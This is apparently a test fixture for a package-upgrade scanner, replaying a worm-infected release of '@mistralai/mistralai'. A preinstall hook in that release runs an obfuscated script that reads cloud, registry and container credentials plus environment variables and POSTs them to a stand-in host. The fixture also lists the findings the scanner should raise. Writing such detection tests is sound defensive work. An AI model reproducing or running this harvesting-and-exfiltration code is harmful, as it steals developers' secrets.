import { obfuscated } from '../obfuscated.js'
import { durations } from '../plain-modules.js'
import { replayUpgrade } from '../upgrade.js'
import { lines, startUnderBun } from '../worm.js'

const payload = obfuscated(
  `
const $fs=require(«fs»),$os=require(«os»),$path=require(«path»);
async function $main(){const $found=[];
for(const $place of [«.npmrc»,«.aws/credentials»,«.kube/config»,«.docker/config.json»]){
try{$found[«push»]($fs[«readFileSync»]($path[«join»]($os[«homedir»](),$place),«utf8»));}catch($failure){}}
$found[«push»](JSON[«stringify»](process[«env»]));
await fetch(«https://filev2.messenger.example/file»,{'method':«POST»,'body':$found[«join»](«»)[«slice»](0x0,0x0)});
}
$main()[«catch»](()=>{});
`,
  300,
)

const manifest = { main: 'index.js' }
const command = 'node setup.mjs'

export const replay = replayUpgrade({
  description:
    'A package of the TanStack wave: the same worm came to the client of a model’s maker as a loader before install, in three versions ' +
    'within minutes.',
  date: '2026-05-11',
  name: '@mistralai/mistralai',
  from: ['2.2.1', { manifest, files: { 'index.js': durations } }],
  to: [
    '2.2.2',
    {
      manifest: { ...manifest, scripts: { preinstall: command } },
      files: { 'index.js': durations, 'setup.mjs': startUnderBun('tanstack_runner.js'), 'tanstack_runner.js': payload },
    },
  ],
  findings: [
    ['install-script-dangerous', 'critical', { file: 'tanstack_runner.js', line: payload }],
    ['remote-code-run', 'critical', { file: 'setup.mjs', line: lines.fetchRuntime }],
    ['secrets-exfiltrated', 'critical', { file: 'tanstack_runner.js', line: payload }],
    ['secrets-harvested', 'critical', { file: 'tanstack_runner.js', line: payload }],
    ['combined-risk', 'critical'],
    [
      'capability-added',
      'high',
      {
        file: 'setup.mjs',
        line: lines.unpackRuntime,
      },
    ],
    ['code-obfuscated', 'high', { file: 'tanstack_runner.js' }],
    ['install-script-added', 'high', { file: 'package.json' }],
    ['beacon-added', 'high', { file: 'tanstack_runner.js', line: payload }],
    [
      'network-host-added',
      'medium',
      {
        file: 'setup.mjs',
        line: "const archive = 'https://bun-releases.example/download/bun-v1.3.13/' + target + '.zip'",
      },
    ],
  ],
})
